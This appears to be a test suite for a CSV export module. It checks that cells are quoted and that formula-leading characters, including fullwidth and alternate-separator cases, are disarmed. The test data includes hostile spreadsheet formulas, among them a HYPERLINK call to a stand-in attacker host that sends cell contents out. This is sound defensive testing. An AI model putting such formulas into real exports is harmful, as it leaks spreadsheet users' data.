import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { cell } from '../../../main/platform/csv-cell.ts'
import { reportTable } from '../../../main/report/csv.ts'
import { crossingOf, digestOf } from './record.ts'

/** Reads RFC 4180 as a spreadsheet does. */
function read(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  for (const [, quoted = '', end = ''] of text.matchAll(/"((?:[^"]|"")*)"(,|\r\n)/gy)) {
    row.push(quoted.replace(/""/g, '"'))
    if (end === ',') continue
    rows.push(row)
    row = []
  }
  return rows
}

/**
 * The cells of a row where lists are separated by some other sign: a quote counts at the beginning of a cell, or
 * (`anywhere`) wherever it stands.
 */
function cellsBy(separator: string, row: string, anywhere: boolean): string[] {
  const cells = ['']
  let quoted = false
  for (let at = 0; at < row.length; at += 1) {
    const sign = row[at] ?? ''
    const begins = cells.at(-1) === '' || anywhere
    if (quoted && sign === '"' && row[at + 1] === '"') at += 1
    else if (sign === '"' && (quoted || begins)) {
      quoted = !quoted
      continue
    } else if (sign === separator && !quoted) {
      cells.push('')
      continue
    }
    cells.push((cells.pop() ?? '') + sign)
  }
  return cells
}

const runs = /^[\s"]*[=+\-@＝＋－＠]/

describe('a cell', () => {
  it.each([
    ['=1+1', `"'=1+1"`],
    ['+1', `"'+1"`],
    ['-1', `"'-1"`],
    ['@SUM(A1)', `"'@SUM(A1)"`],
    ['\t=1', `"'⟦U+0009⟧=1"`],
    ['\r=1', `"'⟦U+000D⟧=1"`],
    ['\n=1', `"'⟦U+000A⟧=1"`],
    ['  =1', `"'  =1"`],
    ['＝1', `"'＝1"`],
    ['a=1', `"a=1"`],
    ['ok;=HYPERLINK("http://evil.example/")', `"ok;'=HYPERLINK(""http://evil.example/"")"`],
    ['ok; =1', `"ok;' =1"`],
    ['ok;"=1', `"ok;'""=1"`],
    ['ok|=1', `"ok|'=1"`],
    ['ok\t=1', `"ok⟦U+0009⟧'=1"`],
    ['ok；＝1', `"ok；'＝1"`],
    ['a;-b;+c;@d', `"a;'-b;'+c;'@d"`],
    ['a; b;c=1', `"a; b;c=1"`],
    ['a "b", c', `"a ""b"", c"`],
    ['", =1', `""", =1"`],
    ['a\u202eb', `"a⟦U+202E⟧b"`],
    [7, '"7"'],
    [null, '""'],
    [undefined, '""'],
  ])('%j is %s', (value, shown) => expect(cell(value)).toBe(shown))

  it('never begins as a formula, whatever it says', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (text) => {
        const [[found = ''] = []] = read(`${cell(text)}\r\n`)
        expect(found).not.toMatch(/^\s*[=+\-@\t\r]/)
        expect(cell(text)).toMatch(/^"[^\r\n]*"$/)
      }),
    )
  })
})

describe('a row, by whatever sign a spreadsheet separates lists', () => {
  const texts = fc.array(
    fc.constantFrom(';', '|', '\t', '=', '-', '@', '"', "'", ' ', 'a', '＝', '；', ',', '\n'),
    {
      maxLength: 12,
    },
  )

  it.each([
    [';', false],
    [';', true],
    ['|', false],
    ['|', true],
    ['\t', false],
    ['\t', true],
    ['；', true],
  ] as const)('%j: no cell begins as a formula (quotes anywhere: %s)', (separator, anywhere) => {
    fc.assert(
      fc.property(fc.array(texts, { minLength: 1, maxLength: 4 }), (row) => {
        const text = row.map((one) => cell(one.join(''))).join(',')
        for (const found of cellsBy(separator, text, anywhere)) expect(found).not.toMatch(runs)
      }),
      { numRuns: 2000 },
    )
  })
})

describe('the report as a table', () => {
  const record = crossingOf()

  it('has a head, and the record’s digest and transfer in each row', () => {
    const [head = [], ...rows] = read(reportTable(record, digestOf('f')))
    expect(head.slice(0, 3)).toEqual(['row', 'record', 'transfer'])
    for (const row of rows) {
      expect(row).toHaveLength(head.length)
      expect(row.slice(1, 3)).toEqual([digestOf('f'), '4'.repeat(16)])
    }
    expect(rows.map((row) => row[0])).toEqual([
      ...['crossing', 'item', 'evidence', 'check', 'check', 'person', 'person', 'person', 'export'],
    ])
  })

  it('ends each row with CR and LF, and has no other', () => {
    const text = reportTable(record, digestOf('f'))
    expect(text.endsWith('"\r\n')).toBe(true)
    expect(text.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/)
  })

  it('disarms hostile names wherever they come from', () => {
    const [item, check, half] = [record.items[0]!, record.verdict!.checks[0]!, record.decision.halves[0]!]
    const bad = '=HYPERLINK("http://evil.example/"&A1)'
    const hostile = crossingOf({
      items: [
        {
          ...item,
          name: '@name',
          reference: '-reference',
          findings: [{ code: 'x', subject: bad, detail: bad }],
        },
      ],
      verdict: {
        ...record.verdict!,
        checks: [{ ...check, expected: bad, found: `+${bad}`, subject: `\t${bad}` }],
      },
      decision: { outcome: 'hold', halves: [{ ...half, name: bad, reason: `\r${bad}` }] },
    })
    const rows = read(reportTable(hostile, digestOf('f')))
    // One check and one half fewer than the record has.
    expect(rows.length).toBe(read(reportTable(record, digestOf('f'))).length - 2)
    for (const found of rows.flat()) expect(found).not.toMatch(/^\s*[=+\-@\t\r]/)
    expect(rows.flat()).toContain(`'${bad}`)
  })
})
